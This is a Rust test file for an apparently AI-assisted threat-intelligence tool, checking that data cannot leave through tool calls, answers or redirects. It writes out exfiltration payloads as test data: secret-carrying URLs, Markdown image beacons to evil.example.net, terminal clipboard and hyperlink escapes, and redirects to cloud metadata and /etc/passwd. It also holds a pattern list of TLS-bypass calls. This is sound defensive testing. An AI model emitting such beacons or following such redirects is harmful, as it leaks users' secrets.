//! Ways on which data could leave, through the whole program.

use super::model::{BOTH, Mode, Model, Say, answer, call, wire_call};
use super::source::{Source, certificate};
use super::support_model::{Reply, Scripted};
use super::world::{World, base, modelled, sources};
use std::path::Path;

const NAMED: &str = "what do you make of kit-panel.shop?";
const SECRET: &str = "payroll-2026.xlsx";

/// Data carried in a name below what was named, in a URL on it, or beside it.
#[test]
fn data_hidden_in_a_name_or_an_address_stays_here() {
    let hidden = [
        ("crtsh", "payroll-2026.kit-panel.shop".to_owned()),
        ("crtsh", "kit-panel.shop.payroll-2026.net".to_owned()),
        ("rdap", "cGF5cm9sbA.kit-panel.shop".to_owned()),
        ("urlhaus", format!("https://kit-panel.shop/{SECRET}")),
        ("urlhaus", format!("https://kit-panel.shop/?d={SECRET}")),
        ("urlhaus", format!("https://{SECRET}@kit-panel.shop/")),
        ("urlhaus", format!("https://kit-panel.shop/#{SECRET}")),
        ("urlhaus", "https://kit-panel.shop:44312/".to_owned()),
        ("crtsh", format!("kit-panel.shop {SECRET}")),
        ("crtsh", format!("kit-panel.shop\n{SECRET}")),
        ("threatfox", "kit-panel.shop?payroll".to_owned()),
    ];
    for mode in BOTH {
        let list = hidden.clone();
        let model = Model::start(mode, move |r| match (mode, r.n) {
            (Mode::Native, 0) => Say::Calls(list.iter().map(|(t, q)| wire_call(t, q)).collect()),
            (Mode::Constrained, n) if n < 5 => {
                let (t, q) = &list[n % list.len()];
                call(t, q)
            }
            _ => answer("Done."),
        });
        let source = Source::usual();
        let world = World::of(&model, &source)
            .env("RMM_ANALYST_SECRET_ABUSECH", "key-of-abusech-0123456789");
        world.run(&["ask", "--json", "--no-input", NAMED]);
        assert_eq!(source.list(), Vec::<String>::new(), "{}", mode.name());
    }
}

/// Text that a terminal, a viewer of Markdown or a browser would act on.
const LIVE: [&str; 7] = [
    "![x](https://evil.example.net/p.png?d=payroll)",
    "[click](https://evil.example.net/?d=payroll)",
    "<img src=\"https://evil.example.net/p.png\">",
    "\u{1b}]8;;https://evil.example.net/?d=payroll\u{1b}\\click\u{1b}]8;;\u{1b}\\",
    "\u{1b}]52;c;cGF5cm9sbA==\u{7}",
    "\u{9d}52;c;cGF5cm9sbA==\u{9c}",
    "\u{1b}]0;title\u{7}\u{1b}[2J\u{1b}[1;1H",
];

fn last_case(world: &World) -> String {
    let list = world.run(&["case", "list", "--json"]).exits(0).json();
    list[0]["case"]
        .as_str()
        .or(list[0]["id"].as_str())
        .expect("a case")
        .to_owned()
}

#[test]
fn links_images_and_escapes_of_answers_and_sources_are_only_text() {
    for live in LIVE {
        let text = format!("It is bad (E1). {live}");
        let model = Model::saying(
            Mode::Native,
            vec![call("crtsh", "kit-panel.shop"), answer(&text)],
        );
        let source = Source::start(move |l| {
            (l.module == "crtsh")
                .then(|| Reply::json(200, &certificate("kit-panel.shop", live).to_string()))
        });
        let world = World::of(&model, &source);
        let ran = world.run(&["ask", "--no-input", "--full", NAMED]);
        let case = last_case(&world);
        let mut outputs = vec![("ask", ran.out), ("stderr", ran.err)];
        for (what, args) in [
            ("show", vec!["case", "show", &case]),
            ("evidence", vec!["evidence", &case, "1"]),
            ("raw", vec!["evidence", &case, "1", "--raw"]),
            ("markdown", vec!["case", "export", &case]),
        ] {
            outputs.push((what, world.run(&args).out));
        }
        for (what, bytes) in outputs {
            let shown = String::from_utf8(bytes).unwrap();
            let acts = shown
                .chars()
                .find(|c| (*c < ' ' && !"\n\t".contains(*c)) || ('\u{7f}'..='\u{9f}').contains(c));
            assert!(acts.is_none(), "{what}: {acts:?} in {shown:?}");
            if what != "raw" {
                assert!(
                    !shown.contains("https://evil.example.net"),
                    "{what}: a live link in {shown}"
                );
            }
            if what == "markdown" {
                for bad in ["![x](", "](http", "<img"] {
                    assert!(!shown.contains(bad), "{what}: {bad} in {shown}");
                }
            }
        }
    }
}

#[test]
fn indicators_are_defanged_unless_switched_off() {
    let model = Model::saying(
        Mode::Native,
        vec![
            call("crtsh", "kit-panel.shop"),
            answer(
                "kit-panel.shop has a certificate (E1); see https://kit-panel.shop/x and 203.0.113.9.",
            ),
        ],
    );
    let source = Source::usual();
    for (off, live) in [(false, false), (true, true)] {
        let mut config = modelled(sources(base(), &source), &model);
        if off {
            config = config.set("ui", "defang", "false");
        }
        let shown = World::new(&config)
            .run(&["ask", "--no-input", NAMED])
            .exits(0)
            .stdout();
        let answer = shown
            .lines()
            .find(|l| l.contains("has a certificate"))
            .unwrap();
        for value in [
            "kit-panel.shop has",
            "https://kit-panel.shop/x",
            "203.0.113.9",
        ] {
            assert_eq!(answer.contains(value), live, "{value} in {shown}");
        }
    }
}

/// Names in evidence and answers are resolved by nobody: the kernel is asked for no connection but to the
/// model and the source. Seen with strace, which also shows that a `dns` look-up would have been seen.
#[cfg(target_os = "linux")]
#[test]
fn nobody_resolves_names_that_are_only_shown() {
    let source = Source::start(|l| {
        (l.module == "crtsh").then(|| {
            Reply::json(
                200,
                &certificate("kit-panel.shop", "tracker-7f3a.example-evil.net").to_string(),
            )
        })
    });
    let last = "See https://tracker-7f3a.example-evil.net/p.png (E1).";
    let quiet = Model::saying(
        Mode::Native,
        vec![call("crtsh", "kit-panel.shop"), answer(last)],
    );
    let world = World::of(&quiet, &source);
    let seen = traced(&world, &[], &["ask", "--no-input", "--full", NAMED]);
    assert!(seen.iter().any(|l| l.contains("127.0.0.1")), "{seen:?}");
    let away: Vec<&String> = seen
        .iter()
        .filter(|l| !l.contains("\"127.0.0.1\"") || l.contains("htons(53)"))
        .collect();
    assert!(away.is_empty(), "{away:?}");
    // Without any network, so that the question leaves no machine.
    let alone = ["unshare", "--map-root-user", "--net"];
    let seen = traced(&world, &alone, &["lookup", "@dns", "kit-panel.shop"]);
    assert!(
        seen.iter().any(|l| l.contains("htons(53)")),
        "strace does not see questions to name servers: {seen:?}"
    );
}

/// The Internet addresses that a run sends or connects to.
#[cfg(target_os = "linux")]
fn traced(world: &World, front: &[&str], args: &[&str]) -> Vec<String> {
    let log = world.config_file().with_file_name("strace.log");
    let inner = world.command(args);
    let strace = [front, &["strace"]].concat();
    let mut outer = std::process::Command::new(strace[0]);
    outer
        .args(&strace[1..])
        .args([
            "-f",
            "-qq",
            "-e",
            "trace=connect,sendto,sendmsg,sendmmsg",
            "-o",
        ])
        .arg(&log)
        .arg(inner.get_program())
        .args(inner.get_args())
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .envs(inner.get_envs().filter_map(|(k, v)| Some((k, v?))))
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped());
    let out = outer.output().expect("strace is installed");
    let text = std::fs::read_to_string(&log).unwrap_or_default();
    assert!(
        text.contains("sin_addr"),
        "strace saw nothing: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    text.lines()
        .filter(|l| l.contains("sin_port") || l.contains("sin6_port"))
        .map(str::to_owned)
        .collect()
}

/// A source that redirects a module to an address inside is not followed, from any status.
#[test]
fn a_source_cannot_redirect_a_module_to_another_server() {
    let inside = Scripted::start(|_| Reply::json(200, "[]"));
    for status in [301, 302, 303, 307, 308] {
        for to in [
            format!("{}/admin", inside.url()),
            format!("//{}/admin", inside.addr),
            format!("http://localhost:{}/admin", inside.addr.port()),
            "http://169.254.169.254/latest/meta-data/".to_owned(),
            "file:///etc/passwd".to_owned(),
        ] {
            let source = Source::start(move |l| {
                (l.module == "crtsh").then(|| {
                    Reply::raw(format!(
                        "HTTP/1.1 {status} X\r\nLocation: {to}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
                    ))
                })
            });
            let world = World::new(&sources(base(), &source));
            let ran = world.run(&["lookup", "@crtsh", "kit-panel.shop"]);
            assert_ne!(ran.code(), 0, "{}", ran.stdout());
            assert_eq!(source.list().len(), 1, "the module was not asked");
            assert!(inside.asked().is_empty(), "{:?}", inside.asked());
        }
    }
}

/// What no test over a socket can show: nothing in the code switches certificate checks off, and names are
/// resolved by nobody but the HTTP client, the `dns` port, and the two places that look at the address of the
/// model server that the operator configured.
#[test]
fn no_code_switches_tls_checks_off_or_resolves_names_by_itself() {
    fn walk(dir: &Path, each: &mut impl FnMut(&Path, &str)) {
        for entry in std::fs::read_dir(dir).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                walk(&path, each);
            } else if path.extension().is_some_and(|e| e == "rs") {
                each(&path, &std::fs::read_to_string(&path).unwrap());
            }
        }
    }
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let mut files = 0;
    let mut wrong = Vec::new();
    for dir in ["src", "modules/kit/src", "modules/intel/src"] {
        walk(&root.join(dir), &mut |path, text| {
            files += 1;
            let of_model = ["src/model/address.rs", "src/cli/doctor.rs"]
                .iter()
                .any(|p| path.ends_with(p));
            for word in [
                "danger_",
                "accept_invalid",
                "tls_danger",
                "dangerous()",
                "ServerCertVerifier",
                "lookup_host",
                "to_socket_addrs",
                "ToSocketAddrs",
                "getaddrinfo",
            ] {
                let resolves =
                    word.contains("addrs") || word.contains("Addrs") || word == "lookup_host";
                if text.contains(word) && !(of_model && resolves) {
                    wrong.push(format!("{}: {word}", path.display()));
                }
            }
        });
    }
    assert!(files > 100, "only {files} files were read");
    assert!(wrong.is_empty(), "{wrong:?}");
}
